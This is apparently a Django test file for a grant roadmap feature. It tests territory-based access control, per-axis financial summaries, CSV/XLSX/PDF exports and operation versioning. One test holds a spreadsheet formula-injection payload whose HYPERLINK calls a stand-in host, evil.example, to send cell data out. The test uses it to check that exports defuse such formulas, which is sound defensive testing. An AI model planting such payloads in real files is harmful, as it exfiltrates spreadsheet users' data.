"""The roadmap pages: the territory's officers and elected representatives see and edit a contract's
roadmap, its summary per axis and theme, its CSV, XLSX and PDF; anyone else gets a 404 everywhere."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook
from pypdf import PdfReader

from dossiers.models import Dossier, Theme
from payments.models import PaymentKind, PaymentRequest, RequestState
from roadmaps import services
from roadmaps.enums import OperationStatus
from roadmaps.models import RoadmapOperation, RoadmapVersion
from roadmaps.services import NewOperation
from tests import factories
from tests.factories import ContractFactory, make_dossier, make_user
from workflows.enums import DossierState, Role

D = Decimal
S = DossierState
pytestmark = pytest.mark.django_db


def url(name, *args):
    """The English page."""
    with translation.override("en"):
        return reverse(f"roadmaps:{name}", args=args)


def add(roadmap, actor, title="Maison de santé", *, cost="500000", support="150000", axis="Axe 1", theme=None):
    return services.operation_add(
        roadmap=roadmap,
        actor=actor,
        operation=NewOperation(
            title=title,
            theme=theme or factories.theme(),
            estimated_cost=D(cost),
            expected_support=D(support),
            expected_year=2027,
            axis=axis,
        ),
    )


def paid_request(dossier, amount, state=RequestState.PAID):
    return PaymentRequest.objects.create(
        dossier=dossier,
        kind=PaymentKind.INSTALMENT,
        state=state,
        payable=D(amount),
        validated_at=timezone.now(),
        created_by=dossier.created_by,
    )


@pytest.fixture
def roadmap(contract):
    return services.roadmap_for_contract(contract)


@pytest.fixture
def mobility():
    return Theme.objects.get_or_create(code="mobilite", defaults={"label": "Mobilités du quotidien"})[0]


@pytest.fixture
def linked(roadmap, contract, officer, mobility):
    """Operations of two axes and two themes, linked to dossiers at every step:
    1 submitted (requested 50,000), 2 approved (granted 60,000), 3 paid (final grant 70,000, two paid
    requests and one validated), 4 without a dossier, 5 abandoned, 6 withdrawn."""
    submitted = make_dossier(S.SUBMITTED, contract=contract, region=D("50000.00"))
    approved = make_dossier(S.APPROVED, contract=contract, region=D("65000.00"))
    Dossier.objects.filter(pk=approved.pk).update(granted_amount=D("60000.00"))
    paid = make_dossier(S.PAID, contract=contract, region=D("90000.00"))
    Dossier.objects.filter(pk=paid.pk).update(final_amount=D("70000.00"))
    paid_request(paid, "30000.00")
    paid_request(paid, "25000.50")
    paid_request(paid, "9999.00", state=RequestState.VALIDATED)
    withdrawn = make_dossier(S.WITHDRAWN, contract=contract, region=D("44000.00"))
    operations = {
        "submitted": add(roadmap, officer, "Maison de santé", support="100000", axis="Axe 1"),
        "approved": add(roadmap, officer, "Crèche", support="70000", axis="Axe 1"),
        "paid": add(roadmap, officer, "Voie verte", support="80000", axis="Axe 2", theme=mobility),
        "planned": add(roadmap, officer, "Tiers-lieu", support="40000", axis="Axe 2"),
        "abandoned": add(roadmap, officer, "Piscine", support="300000", axis="Axe 2", theme=mobility),
        "withdrawn": add(roadmap, officer, "Halle", support="45000", axis="Axe 1"),
    }
    for key, dossier in (("submitted", submitted), ("approved", approved), ("paid", paid), ("withdrawn", withdrawn)):
        operations[key] = services.operation_link_dossier(operation=operations[key], dossier=dossier, actor=officer)
    RoadmapOperation.objects.filter(pk=operations["abandoned"].pk).update(status=OperationStatus.ABANDONED)
    return operations


# Who sees the roadmap -------------------------------------------------------------------------------


def test_the_territorys_officer_and_representative_see_the_roadmap_its_exports_and_its_pdf(
    client, contract, officer, representative, linked
):
    for user in (officer, representative):
        client.force_login(user)
        index = client.get(url("index"))
        assert index.status_code == 200 and contract.name in index.content.decode()

        page = client.get(url("detail", contract.pk))
        assert page.status_code == 200
        content = page.content.decode()
        assert "Voie verte" in content and "Operations without a dossier yet" in content
        assert [operation.title for operation in page.context["without_dossier"]] == ["Tiers-lieu"]

        for name, content_type in (
            ("export_csv", "text/csv; charset=utf-8"),
            ("export_xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
            ("print", "application/pdf"),
        ):
            download = client.get(url(name, contract.pk))
            assert download.status_code == 200 and download["Content-Type"] == content_type
            assert download["Content-Disposition"].startswith('attachment; filename="feuille-de-route-')
            assert download["Cache-Control"] == "private, no-store"

        pdf = client.get(url("print", contract.pk)).content
        assert pdf.startswith(b"%PDF")
        text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
        assert "Roadmap — " + contract.name in text
        assert "Voie verte" in text
        digits = "".join(text.split()).replace("\u202f", "").replace("\u00a0", "")
        assert "55000,50" in digits  # paid on the "Voie verte" operation


def outsiders(other_territory, linked):
    sponsor_of_the_territory = Dossier.objects.get(pk=linked["paid"].dossier_id).created_by
    return [
        make_user(Role.OFFICER, territory=other_territory),
        make_user(Role.REPRESENTATIVE, territory=other_territory),
        sponsor_of_the_territory,
        make_user(Role.FINANCE),
        make_user(Role.COMMITTEE_SECRETARY),
    ]


def state_of_the_roadmap(roadmap):
    return (
        list(RoadmapOperation.objects.filter(roadmap__pk=roadmap.pk).values()),
        RoadmapVersion.objects.filter(roadmap__pk=roadmap.pk).count(),
    )


def test_other_territories_sponsors_and_finance_get_404_on_every_page_and_change_nothing(
    client, contract, roadmap, other_territory, linked
):
    operation = linked["planned"]
    free = make_dossier(S.SUBMITTED, contract=contract)
    before = state_of_the_roadmap(roadmap)
    form = {
        "title": "Hacked",
        "theme": factories.theme().pk,
        "estimated_cost": "10",
        "expected_support": "5",
        "expected_year": "2030",
        "priority": "high",
        "status": "under_construction",
        "reference": free.reference,
    }
    pages = [
        ("detail", contract.pk),
        ("operation_add", contract.pk),
        ("operation_edit", operation.pk),
        ("operation_link", operation.pk),
        ("export_csv", contract.pk),
        ("export_xlsx", contract.pk),
        ("print", contract.pk),
    ]
    for user in outsiders(other_territory, linked):
        client.force_login(user)
        index = client.get(url("index"))
        assert index.status_code == 404 or contract.name not in index.content.decode()
        for name, pk in pages:
            assert client.get(url(name, pk)).status_code == 404, (user, name)
            assert client.post(url(name, pk), form).status_code == 404, (user, name)
    assert state_of_the_roadmap(roadmap) == before
    client.force_login(make_user(Role.OFFICER, territory=other_territory))
    assert client.get(url("index")).context["rows"] == []


def test_an_administrator_sees_every_roadmap(client, contract, linked):
    client.force_login(make_user(Role.ADMINISTRATOR))
    assert client.get(url("detail", contract.pk)).status_code == 200
    assert client.get(url("detail", contract.pk + 1000)).status_code == 404


# The figures ------------------------------------------------------------------------------------------


def test_the_summary_per_axis_and_theme_equals_the_sums_of_the_dossiers(client, contract, officer, linked, mobility):
    # Computed here from the fixture's figures: planned leaves out the abandoned operation (300,000) and
    # the withdrawn one (abandoned with its dossier); filed counts dossiers submitted or later; funded the
    # grants voted (the final grant once fixed); paid the paid requests only.
    axis_1 = {"planned": D("170000.00"), "filed": D("115000.00"), "funded": D("60000.00"), "paid": D("0.00")}
    axis_2 = {"planned": D("120000.00"), "filed": D("90000.00"), "funded": D("70000.00"), "paid": D("55000.50")}
    health = {"planned": D("210000.00"), "filed": D("115000.00"), "funded": D("60000.00"), "paid": D("0.00")}
    moving = {"planned": D("80000.00"), "filed": D("90000.00"), "funded": D("70000.00"), "paid": D("55000.50")}
    total = {name: axis_1[name] + axis_2[name] for name in axis_1}

    client.force_login(officer)
    summary = client.get(url("detail", contract.pk)).context["summary"]

    figures = ("planned", "filed", "funded", "paid")
    assert [(row["axis"], {name: row[name] for name in figures}) for row in summary["by_axis"]] == [
        ("Axe 1", axis_1),
        ("Axe 2", axis_2),
    ]
    assert [(row["theme"], {name: row[name] for name in figures}) for row in summary["by_theme"]] == sorted(
        [(factories.theme().label, health), (mobility.label, moving)], key=lambda pair: pair[0]
    )
    assert {name: summary["total"][name] for name in figures} == total
    assert total == {name: health[name] + moving[name] for name in figures}

    index = client.get(url("index")).context["rows"]
    assert [{name: row["figures"][name] for name in figures} for row in index] == [total]


def test_the_exports_carry_each_operations_figures(client, contract, officer, linked):
    client.force_login(officer)
    text = client.get(url("export_csv", contract.pk)).content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert rows[0][-4:] == ["Dossier", "Filed", "Funded", "Paid"]
    paid = next(row for row in rows if row[1] == "Voie verte")
    assert paid[9:] == [
        "Completed",
        Dossier.objects.get(pk=linked["paid"].dossier_id).reference,
        "90000,00",
        "70000,00",
        "55000,50",
    ]

    sheet = load_workbook(io.BytesIO(client.get(url("export_xlsx", contract.pk)).content)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    paid = next(row for row in values if row[1] == "Voie verte")
    assert paid[7] == 2027 and paid[11:] == [90000, 70000, 55000.5]


def test_a_formula_in_an_operation_title_is_defused_in_the_csv_and_the_xlsx(client, contract, roadmap, officer):
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    add(roadmap, officer, hostile, axis="+SUM(1,2)")
    add(roadmap, officer, "-2+3", axis="@cmd")
    client.force_login(officer)

    text = client.get(url("export_csv", contract.pk)).content.decode("utf-8").lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))[1:]
    assert [(row[1], row[4]) for row in rows] == [("'" + hostile, "'+SUM(1,2)"), ("'-2+3", "'@cmd")]

    sheet = load_workbook(io.BytesIO(client.get(url("export_xlsx", contract.pk)).content)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)] + [row[4] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == ["'" + hostile, "'-2+3", "'+SUM(1,2)", "'@cmd"]
    assert all(cell.data_type == "s" for cell in cells)


# Editing from the pages ----------------------------------------------------------------------------


def operation_form(**fields):
    return {
        "title": "Maison de santé",
        "sponsor": "",
        "sponsor_name": "Commune de Test",
        "theme": factories.theme().pk,
        "axis": "Axe 1 — Services",
        "estimated_cost": "500000.00",
        "expected_support": "150000.00",
        "expected_year": "2027",
        "priority": "high",
        **fields,
    }


def test_adding_and_editing_an_operation_from_the_pages_writes_a_version_each_time(client, contract, representative):
    client.force_login(representative)
    response = client.post(url("operation_add", contract.pk), operation_form())
    assert response.status_code == 302 and response["Location"] == url("detail", contract.pk)
    operation = RoadmapOperation.objects.get()
    assert (operation.number, operation.title, operation.sponsor_name, operation.status) == (
        1,
        "Maison de santé",
        "Commune de Test",
        OperationStatus.IDENTIFIED,
    )
    first = RoadmapVersion.objects.get()
    assert (first.number, first.created_by, first.changes[0]["kind"]) == (1, representative, "add")

    response = client.post(
        url("operation_edit", operation.pk),
        operation_form(expected_support="120000.00", status="under_construction"),
        follow=True,
    )
    assert "The operation #1 was changed." in response.content.decode()
    operation.refresh_from_db()
    assert (operation.expected_support, operation.status) == (D("120000.00"), OperationStatus.UNDER_CONSTRUCTION)
    second = RoadmapVersion.objects.get(number=2)
    assert second.changes == [
        {
            "kind": "edit",
            "number": 1,
            "title": "Maison de santé",
            "before": {"expected_support": "150000.00", "status": "identified"},
            "after": {"expected_support": "120000.00", "status": "under_construction"},
        }
    ]
    assert RoadmapVersion.objects.get(number=1).operations[0]["expected_support"] == "150000.00"


def test_a_refused_operation_form_shows_why_and_writes_nothing(client, contract, roadmap, officer):
    client.force_login(officer)
    too_much = client.post(url("operation_add", contract.pk), operation_form(expected_support="600000.00"))
    assert too_much.status_code == 200
    assert "The expected support cannot exceed the estimated cost." in too_much.content.decode()
    out_of_range = client.post(url("operation_add", contract.pk), operation_form(expected_year="2050"))
    assert out_of_range.status_code == 200 and out_of_range.context["form"].errors["expected_year"]
    assert not RoadmapOperation.objects.exists()

    operation = add(roadmap, officer)
    unchanged = client.post(
        url("operation_edit", operation.pk),
        operation_form(sponsor_name="", axis="Axe 1", priority="medium", estimated_cost="500000", status="identified"),
    )
    assert "Nothing was changed." in unchanged.content.decode()  # the service's refusal, on the page
    assert RoadmapVersion.objects.filter(roadmap=roadmap).count() == 1


def test_the_status_of_an_operation_realised_by_a_dossier_is_not_edited_by_hand(roadmap, contract, officer):
    operation = add(roadmap, officer)
    services.operation_link_dossier(
        operation=operation, dossier=make_dossier(S.SUBMITTED, contract=contract), actor=officer
    )
    with pytest.raises(ValidationError) as refusal:
        services.operation_update(operation=operation, actor=officer, status=OperationStatus.IDENTIFIED)
    assert refusal.value.code == "status_locked"
    assert RoadmapOperation.objects.get(pk=operation.pk).status == OperationStatus.FILED
    assert RoadmapVersion.objects.filter(roadmap=roadmap).count() == 2


def test_a_dossier_of_the_contract_is_linked_by_its_reference(client, contract, roadmap, officer):
    operation = add(roadmap, officer)
    other_contracts = make_dossier(S.SUBMITTED)
    client.force_login(officer)
    refused = client.post(url("operation_link", operation.pk), {"reference": other_contracts.reference})
    assert refused.status_code == 200
    assert "No dossier of this contract with this reference is free" in refused.content.decode()
    assert RoadmapOperation.objects.get(pk=operation.pk).dossier_id is None

    dossier = make_dossier(S.APPROVED, contract=contract)
    assert client.get(url("operation_link", operation.pk)).context["candidates"] == [dossier]
    response = client.post(url("operation_link", operation.pk), {"reference": dossier.reference})
    assert response.status_code == 302
    operation.refresh_from_db()
    assert (operation.dossier, operation.status) == (dossier, OperationStatus.FUNDED)
    page = client.get(url("detail", contract.pk)).content.decode()
    assert reverse("instruction:dossier_page", args=[dossier.pk]) in page


# Queries ---------------------------------------------------------------------------------------------


def count_queries(client, address) -> int:
    with CaptureQueriesContext(connection) as queries:
        assert client.get(address).status_code == 200
    return len(queries)


def test_the_roadmap_page_runs_the_same_queries_for_2_or_10_operations(
    client, contract, roadmap, officer, mobility, django_assert_num_queries
):
    def operations(count):
        for index in range(count):
            operation = add(roadmap, officer, f"Opération {index}", axis=f"Axe {index % 3}", theme=mobility)
            dossier = make_dossier(S.PAID, contract=contract)
            paid_request(dossier, "100.00")
            services.operation_link_dossier(operation=operation, dossier=dossier, actor=officer)

    client.force_login(officer)
    client.get(url("detail", contract.pk))
    operations(2)
    expected = count_queries(client, url("detail", contract.pk))
    operations(8)
    with django_assert_num_queries(expected):
        page = client.get(url("detail", contract.pk))
    assert len(page.context["operations"]) == 10


def test_the_roadmaps_index_runs_the_same_queries_for_2_or_10_contracts(client, django_assert_num_queries):
    admin = make_user(Role.ADMINISTRATOR)

    def contracts(count):
        for _index in range(count):
            roadmap = services.roadmap_for_contract(ContractFactory())
            add(roadmap, admin)

    client.force_login(admin)
    client.get(url("index"))
    contracts(2)
    expected = count_queries(client, url("index"))
    contracts(8)
    with django_assert_num_queries(expected):
        page = client.get(url("index"))
    assert len(page.context["rows"]) == 10


def test_the_roadmap_page_lists_the_contracts_follow_up_meetings(client, contract, roadmap, representative):
    meeting = services.meeting_create(
        roadmap=roadmap, actor=representative, held_on=date(2026, 11, 20), participants=[representative]
    )
    client.force_login(representative)
    page = client.get(reverse("roadmaps:detail", args=[contract.pk])).content.decode()
    assert reverse("meetings:detail", args=[meeting.pk]) in page
